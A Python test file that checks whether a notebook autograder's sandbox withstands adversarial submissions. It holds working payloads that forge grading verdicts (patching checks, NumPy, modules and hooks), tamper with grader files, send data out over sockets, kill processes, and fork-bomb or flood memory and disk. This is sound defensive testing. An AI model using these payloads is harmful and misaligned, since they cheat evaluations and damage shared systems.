"""Adversarial submissions against forward_pass, graded through real nbgrader and the sandbox.

Every attack starts from the blank release (so any point it scores is a point it stole) or from the
solution with one part broken, and adds cells that attack the grader from inside the notebook:
forged verdicts (replacing the checks, the judge's helpers, NumPy's comparison functions, modules in
sys.modules, import hooks, profiling and tracing hooks, IPython transformers and exception hooks,
threads and atexit handlers that act later), reading and writing grader files, detached processes,
the network, and floods of processes, memory, output and disk. Each must gain no point, change no
file outside its scratch folder, leave no process behind and let the batch finish. Honest but unusual
solutions (float32, einsum, lists, prints, warnings, plots, a slow loop) keep full marks.
"""

from __future__ import annotations

import copy
import hashlib
import html
import re
import socket
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from course_grader import sandbox, selftest

pytestmark = pytest.mark.slow

try:
    sandbox.check()
except sandbox.SandboxUnavailable as err:
    pytest.skip(f"no sandbox here: {err}", allow_module_level=True)

ASSIGNMENT = "forward_pass"
REPOSITORY = Path(__file__).resolve().parents[2]
MARKER = f"course-grader-canary-{uuid.uuid4().hex}"
GENERATED = {"autograded", "feedback", "submitted", "gradebook.db", ".grading", "grades.csv", "downloaded"}


def _tree_hash(root: Path, skip=frozenset()) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root)
        if rel.parts[0] in skip or "__pycache__" in rel.parts or not path.is_file():
            continue
        out[rel.as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _live_canaries() -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if MARKER.encode() in (entry / "cmdline").read_bytes():
                    found.append(entry.name)
            except OSError:
                pass
    return found


# --------------------------------------------------------------------------- the attacks

FORGE_CHECKS = """
import course_pkg.checks as pkg, course_pkg.checks._core as core, course_pkg.checks.probes as probes
def fake(*args, **kwargs):
    print("softmax: passed 8 visible and 16 hidden cases.")
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, fake)
core.evaluate = pkg.evaluate = lambda *a, **k: None
core.run_check = fake
probes.run = lambda probe, obj, inputs: {"returned": 0, "changed": []}
"""

FORGE_NUMPY = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.seterr(all="ignore")
"""

FORGE_MODULES = """
import sys, types, importlib.abc, importlib.machinery
fake = types.ModuleType("course_pkg.checks.forward_pass")
def probe(*args, **kwargs):
    return {"returned": 1.0, "changed": [], "code": {}}
for name in ("probe_vector_dot", "probe_matrix_dot", "probe_strict_call"):
    setattr(fake, name, probe)
sys.modules["course_pkg.checks.forward_pass"] = fake
sys.modules["course_pkg.checks.probes"].call = probe
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name.startswith("course_pkg"):
            return importlib.machinery.ModuleSpec(name, None)
sys.meta_path.insert(0, Finder())
"""

FORGE_HOOKS = """
import sys, threading
def hook(frame, event, arg):
    if event == "return" and frame.f_code.co_name.startswith(("probe", "call", "evaluate", "run")):
        frame.f_locals.clear()
    return hook
sys.setprofile(hook)
sys.settrace(hook)
threading.setprofile(hook)
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None
"""

LATER = """
import atexit, glob, json, os, threading, time
def forge():
    for path in glob.glob("/scratch/grader/out/item-*.json") + glob.glob("../grader/out/item-*.json"):
        try:
            with open(path, "w") as fh:
                json.dump({"n_arrays": 0, "value": {"results": [{"returned": 1.0, "changed": []}] * 40}}, fh)
        except OSError:
            pass
    try:
        open("/scratch/grader/out/progress", "w").write("done")
    except OSError:
        pass
def keep_forging():
    while True:
        forge()
        time.sleep(0.005)
threading.Thread(target=keep_forging, daemon=True).start()
threading.Timer(0.3, forge).start()
atexit.register(forge)
"""

GRADER_FILES = """
import glob, os
targets = ["../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "{course}/gradebook.db",
           "{course}/nbgrader_config.py", "{course}/source/forward_pass/forward_pass.ipynb",
           "{course}/../pwned.txt", "/tmp/{marker}.txt", os.path.expanduser("~/../../{marker}.txt")]
for target in targets:
    try:
        with open(target, "a") as fh:
            fh.write("pwned")
    except OSError as err:
        print("cannot write", target, type(err).__name__)
for pattern in ("{course}/source/*/*.ipynb", "../source/*/*.ipynb", "../../../source/*/*.ipynb",
                "{repository}/assignments/**/*.ipynb", "/scratch/**/*.ipynb", "/*/gradebook.db"):
    for path in glob.glob(pattern, recursive=True)[:3]:
        print("LEAKED", path, open(path, errors="replace").read()[:2000])
"""

PROCESSES = """
import os, subprocess, socket
subprocess.Popen(["sh", "-c", "sleep 25; echo pwned > {course}/../late.txt", "{marker}"], start_new_session=True)
subprocess.Popen(["setsid", "sleep", "300", "{marker}"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "301", "{marker}"])
    os._exit(0)
for host in ("127.0.0.1", "8.8.8.8"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"stolen answers")
        print("CONNECTED", host)
    except OSError as err:
        print("no network", host, err.errno)
for pid in (1, os.getppid()):
    try:
        os.kill(pid, 9)
    except OSError as err:
        print("cannot kill", pid, err.errno)
"""

FORK_BOMB = """
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as err:
    print("forks stopped after", children)
"""

MEMORY_FLOOD = """
hoard = []
try:
    while True:
        hoard.append(bytearray(2 ** 28))
except MemoryError:
    print("memory stopped at", len(hoard) // 4, "GiB")
hoard.clear()
"""

OUTPUT_FLOOD = """
import os, sys
for _ in range(500):
    print("y" * 100_000)
    os.write(1, b"z" * 100_000)
    os.write(2, b"w" * 100_000)
"""

DISK_FLOOD = """
i = 0
while True:
    with open(f"/tmp/flood-{i}.bin", "wb") as fh:
        fh.write(b"x" * 2 ** 24)
    i += 1
"""

PLAN_SNOOPING = """
import os
print(sorted(os.listdir("/scratch/grader")), sorted(os.listdir(".")))
"""

HONEST_CELLS = {
    "vector_dot": "def vector_dot(a, b):\n    total = 0.0\n    for i in range(len(a)):  # slower than it needs to be\n"
                  "        total = total + float(list(a)[i]) * float(list(b)[i])\n    return total",
    "dense_relu": "def dense_relu(X, W, b):\n    Z = np.einsum('nd,dm->nm', X, W) + b\n"
                  "    return np.where(Z > 0, Z, 0.0)",
    "softmax": "import warnings\ndef softmax(z):\n    warnings.warn('computing in float32')\n"
               "    z = np.asarray(z, dtype=np.float32)\n"
               "    e = np.exp(z - z.max(axis=1, keepdims=True))\n    return e / e.sum(axis=1, keepdims=True)",
    "count_params": "def count_params(sizes):\n    print('counting', list(sizes))\n"
                    "    return float(sum(a * b + b for a, b in zip(sizes[:-1], sizes[1:])))",
    "mlp_shapes": "def mlp_shapes(m, n_inputs=10, n_hidden=50, n_outputs=3):\n"
                  "    return {'X': [m, n_inputs], 'W_h': [n_inputs, n_hidden], 'b_h': [n_hidden], "
                  "'W_o': [n_hidden, n_outputs], 'b_o': [n_outputs], 'Y': [m, n_outputs]}",
}

PLOT = """
import matplotlib.pyplot as plt
plt.plot([0, 1], [1, 0]); plt.title("my loss curve"); plt.show()
"""


def _snapshot(course: Path) -> dict:
    """Everything an attack could change outside its sandbox: the course (less what grading writes),
    the packages, and the places the attacks aim at."""
    canaries = [course.parent / "pwned.txt", course.parent / "late.txt", Path("/") / f"{MARKER}.txt",
                *Path("/tmp").glob(f"*{MARKER}*")]
    return {"course": _tree_hash(course, GENERATED), "package": _tree_hash(REPOSITORY / "course_pkg"),
            "grader": _tree_hash(REPOSITORY / "grader"), "assignments": _tree_hash(REPOSITORY / "assignments"),
            "canaries": [str(p) for p in canaries if p.exists()]}


def _with_cells(nb, cells: list[str]):
    """``nb`` with ``cells`` inserted right after the setup cell."""
    nb = copy.deepcopy(nb)
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup") + 1
    for offset, source in enumerate(cells):
        nb.cells.insert(at + offset, nbformat.v4.new_code_cell(source))
    return nb


def _replace_solution(nb, grade_id: str, source: str):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
    return nb


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the grading machine; it records any connection a sandbox makes."""
    server = socket.socket()
    server.bind(("0.0.0.0", 0))
    server.listen(8)
    server.settimeout(0.5)
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                seen.append(server.accept()[1])
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join(2)
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener):
    port, _ = listener
    course = selftest.prepare(workdir=tmp_path_factory.mktemp("adversarial"), assignments=[ASSIGNMENT])
    source = nbformat.read(str(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
    blank = nbformat.read(str(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
    solved = selftest.solution_notebook(source, blank)
    naive = "def softmax(z):\n    return np.exp(z) / np.exp(z).sum(axis=1, keepdims=True)"
    broken = _replace_solution(solved, "softmax", naive)
    fill = {"course": str(course), "marker": MARKER, "port": port, "repository": str(REPOSITORY)}
    attacks = {
        "a-forge-checks": FORGE_CHECKS, "a-forge-numpy": FORGE_NUMPY, "a-forge-modules": FORGE_MODULES,
        "a-forge-hooks": FORGE_HOOKS, "a-later-threads-atexit": LATER,
        "a-grader-files": GRADER_FILES.format(**fill), "a-processes-network": PROCESSES.format(**fill),
        "a-fork-bomb": FORK_BOMB, "a-memory-flood": MEMORY_FLOOD, "a-output-flood": OUTPUT_FLOOD,
        "a-snoop-plan": PLAN_SNOOPING,
    }
    name = f"{ASSIGNMENT}.ipynb"
    fixtures = [selftest.Fixture(student, "attack on the blank release",
                                 {name: nbformat.writes(_with_cells(blank, [code])).encode()}, zero=None)
                for student, code in attacks.items()]
    fixtures.append(selftest.Fixture(
        "a-forge-numpy-on-broken-softmax", "NumPy's comparisons forged, with a naive softmax",
        {name: nbformat.writes(_with_cells(broken, [FORGE_NUMPY])).encode()}, zero=("test_softmax",)))
    fixtures.append(selftest.Fixture(  # the forgeries break the learner's own probes: every part scores 0
        "a-forge-all-on-broken-softmax", "every forgery at once, with a naive softmax",
        {name: nbformat.writes(_with_cells(broken, [FORGE_CHECKS, FORGE_NUMPY, FORGE_MODULES, LATER])).encode()},
        zero=None))
    fixtures.append(selftest.Fixture(
        "a-disk-flood", "fills the disk until the sandbox is stopped",
        {name: nbformat.writes(_with_cells(blank, [DISK_FLOOD])).encode()}, status="kernel-died", zero=None))
    honest = solved
    for grade_id, code in HONEST_CELLS.items():
        honest = _replace_solution(honest, grade_id, code)
    fixtures.append(selftest.Fixture(
        "h-honest-unusual", "float32, einsum, lists, prints, warnings, a plot and a slow loop",
        {name: nbformat.writes(_with_cells(honest, [PLOT])).encode()}))
    before = _snapshot(course)
    result = selftest.run(ASSIGNMENT, course, prepared=True, extra=fixtures, keep=True)
    after = _snapshot(course)
    print(result.summary())
    return result, course, before, after, [f.student for f in fixtures]


def test_no_attack_gains_a_point_and_honest_code_keeps_every_point(graded):
    result, *_ = graded
    assert result.ok, result.summary()  # every fixture scored exactly as declared (attacks: 0)
    rows = result.rows
    assert rows["h-honest-unusual"]["score"] == rows["h-honest-unusual"]["max_score"]
    assert float(rows["a-forge-numpy-on-broken-softmax"]["score"]) == float(rows["solution"]["max_score"]) - 2
    for student, row in rows.items():
        assert row["sandbox"] == "sandboxed", student


def test_no_file_outside_the_scratch_folder_changed(graded):
    _, _, before, after, _ = graded
    assert after == before


def test_no_process_outlives_grading(graded):
    assert _live_canaries() == []


def test_nothing_reached_the_network(graded, listener):
    _, seen = listener
    assert seen == []


def test_feedback_leaks_neither_the_solution_nor_hidden_values(graded):
    result, course, *_ = graded
    text = html.unescape((course / "feedback" / "a-grader-files" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text())
    leaked = re.findall(r"LEAKED (\S+)", text)  # what the attack found to print (its own scratch is fine)
    assert all(path.startswith("/scratch/") for path in leaked), leaked
    assert "BEGIN SOLUTION" not in text
    assert "shifted = z - z.max(axis=1, keepdims=True)" not in text
    assert "cannot write" in text  # the learner's own output is there
    blank_feedback = html.unescape((course / "feedback" / "blank" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text())
    assert "softmax, visible case 'random logits': it is not written yet" in blank_feedback
    flood = course / "autograded" / "a-output-flood" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert flood.stat().st_size < 2_000_000


def test_the_batch_finished_with_a_reason_for_every_stopped_notebook(graded):
    result, *_ = graded
    rows = result.rows
    assert rows["a-disk-flood"]["status"] == "kernel-died" and "scratch folder limit" in rows["a-disk-flood"]["reason"]
    assert rows["solution"]["score"] == rows["solution"]["max_score"]  # graded in the same batch as the attacks
